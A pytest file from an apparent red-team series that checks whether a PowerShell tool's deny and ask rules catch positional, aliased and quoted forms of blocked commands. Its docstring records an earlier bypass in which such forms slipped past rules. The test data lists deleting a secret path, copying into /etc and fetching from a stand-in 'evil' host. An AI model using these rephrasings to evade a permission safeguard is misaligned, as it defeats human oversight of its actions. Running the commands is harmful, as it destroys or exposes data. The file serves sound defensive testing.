"""Red team, round 28 (analysis): PowerShell positional parameters against deny rules.

pwsh binds a bare argument to the cmdlet's positional parameters (``Remove-Item secret`` is
``Remove-Item -Path secret``; ``Copy-Item a b`` binds ``-Destination b``), so a deny rule that names
the parameter (``PowerShell(Remove-Item -Path secret:*)``) met only the spelled-out form (round 27's
Left). A quoted literal (``'secret'``) is the same value to pwsh. Decisions of the real engine, in
``bypassPermissions`` mode where deny rules are the only guard (no pwsh here: PowerShell 7.4's
documented positions).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from shellrt.tools.powershell import PowerShell
from tests.test_redteam_round26_analysis3_pwsh_rule_case import decide, missed_denies

pytestmark = pytest.mark.anyio

#: (deny rule, commands pwsh runs as what it names).
DENIED = [
    ("PowerShell(Remove-Item -Path secret:*)", ["Remove-Item secret", "ri secret -Recurse", "del -Recurse secret",
                                                "Remove-Item -Force secret", "rm 'secret'", "Remove-Item \"secret\""]),
    ("PowerShell(Remove-Item -Path:*)", ["Remove-Item x"]),
    ("PowerShell(Get-Content -Path secret.txt)", ["Get-Content secret.txt", "gc secret.txt", "cat secret.txt"]),
    ("PowerShell(Copy-Item -Destination /etc:*)", ["Copy-Item x /etc", "cp -Recurse x /etc"]),
    ("PowerShell(Invoke-WebRequest -Uri http://evil:*)", ["iwr http://evil", "Invoke-WebRequest http://evil -OutFile f"]),
    ("PowerShell(Set-Content -Path a -Value b)", ["Set-Content a b", "sc a -Value b"]),
    # A rule with a wildcard keeps text order: the bound parameter is spelled where the rule has it.
    ("PowerShell(Remove-Item -Path sec*:*)", ["Remove-Item -Recurse secret"]),
    # A cmdlet whose positions are not known here: a rule that gives the parameter a value meets a bare word.
    ("PowerShell(Frob-Widget -Target prod:*)", ["Frob-Widget prod"]),
]


async def test_deny_rules_meet_positional_arguments(tmp_path: Path) -> None:
    assert await missed_denies(tmp_path, PowerShell(), DENIED) == []
    # An ask rule the same way (default mode: Get-Content is read-only, allowed unasked otherwise).
    got = await decide(tmp_path, PowerShell(), ["gc secret.txt", "gc other.txt"], "default",
                       ask=["PowerShell(Get-Content -Path secret.txt:*)"])
    assert got == ["ask", "allow"]
    # Bare words bind positions only: other values, named-only parameters and switches stay other.
    # (Fail closed: which bare word takes which position is not worked out, so `Copy-Item /etc x` meets
    # a rule on `-Destination /etc` too.)
    kept = ["Remove-Item other", "Remove-Item -LiteralPath x", "Get-ChildItem x", "Frob-Widget x -Force",
            "Copy-Item x /tmp"]
    got = await decide(tmp_path, PowerShell(), kept, "bypassPermissions",
                       deny=["PowerShell(Remove-Item -Path secret:*)", "PowerShell(Remove-Item -Recurse:*)",
                             "PowerShell(Get-ChildItem -Recurse:*)", "PowerShell(Frob-Widget -Force:*)",
                             "PowerShell(Copy-Item -Destination /etc:*)"])
    assert got == ["allow", "allow", "allow", "deny", "allow"]
